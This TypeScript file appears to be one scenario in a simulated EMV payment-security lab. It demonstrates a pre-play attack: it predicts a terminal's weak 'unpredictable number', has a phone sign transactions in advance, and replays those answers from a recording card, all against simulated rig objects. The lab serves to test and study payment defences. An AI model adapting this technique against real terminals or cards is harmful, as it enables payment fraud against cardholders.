/** A14: answers signed in advance for a predictable unpredictable number (Bond et al. 2012). */

import { binary } from '../network/iso8583/codec.js';
import { fromHex, toHex } from '../network/bytes.js';
import { parseTlv } from '../network/tlv.js';
import type { Picc } from '../rf/picc.js';
import type { Finding } from './attack.js';
import { findingOf, type Lab } from './lab.js';
import { RigBench } from './rig-bench.js';

interface Exchange {
  readonly command: string;
  response: string;
}

export function prePlay(lab: Lab): Finding {
  const bench = new RigBench(lab, lab.rig());
  const { rig } = bench;
  let count = 0;
  rig.station.random = {
    fill(bytes) {
      count++;
      bytes.fill(0);
      new DataView(bytes.buffer, bytes.byteOffset, bytes.length).setUint32(bytes.length - 4, count);
    },
  };
  const heard: Exchange[] = [];
  rig.cardProxy = {
    command(capdu) {
      heard.push({ command: toHex(capdu), response: '' });
      return capdu;
    },
  };
  bench.tap(1280);
  bench.away();
  heard.length = 0;
  bench.tap(1280);
  bench.away();
  const [first, second] = bench.sent.flatMap(unOf) as [number, number];
  const next = second + (second - first);
  lab.note(`unpredictable numbers ${first} and ${second}: the next will be ${next}`);
  const stolen = sign(rig.phone.picc, rig, heard, second, next);
  lab.note('the phone signed for it at a reader of the attacker; now it goes home');
  rig.cardProxy = undefined;
  const before = bench.sales.length;
  rig.station.firmware.order({ kind: 'sale', amountMinor: 1280 });
  rig.place(recording(rig.phone.picc, stolen));
  bench.wait(3_000_000);
  lab.note(`played back: the terminal shows "${bench.screen}"`);
  const sale = bench.sales[before];
  return sale
    ? findingOf(rig.backOffice, sale.f39)
    : { layer: 'terminal', check: 'none', code: bench.screen };
}

/** The attacker's own reader: the same commands, another number. */
function sign(
  phone: Picc,
  rig: RigBench['rig'],
  heard: readonly Exchange[],
  from: number,
  to: number,
): Exchange[] {
  rig.phone.authenticate('fingerprint');
  phone.powerUp();
  const hex = (value: number): string => value.toString(16).toUpperCase().padStart(8, '0');
  const out: Exchange[] = [];
  for (const { command } of heard) {
    const exchange = { command: command.replace(hex(from), hex(to)), response: '' };
    phone.receive(fromHex(exchange.command), (rapdu) => (exchange.response = toHex(rapdu)));
    rig.until(() => exchange.response !== '', 2_000_000);
    out.push(exchange);
  }
  phone.powerDown();
  return out;
}

/** A card that can only say what it has heard before. */
function recording(like: Picc, exchanges: readonly Exchange[]): Picc {
  const identity = like.powerUp();
  like.powerDown();
  return {
    name: 'recording',
    type: like.type,
    powerUp: () => identity,
    powerDown: () => undefined,
    receive(capdu, answer) {
      const known = exchanges.find((row) => row.command === toHex(capdu));
      answer(fromHex(known?.response ?? '6A82'));
    },
  };
}

function unOf(message: Parameters<typeof binary>[0]): number[] {
  const icc = message.mti === '0200' ? binary(message, 55) : undefined;
  const parsed = icc && parseTlv(icc);
  const un = parsed?.ok ? parsed.set.values.get('9F37') : undefined;
  return un ? [parseInt(toHex(un), 16)] : [];
}
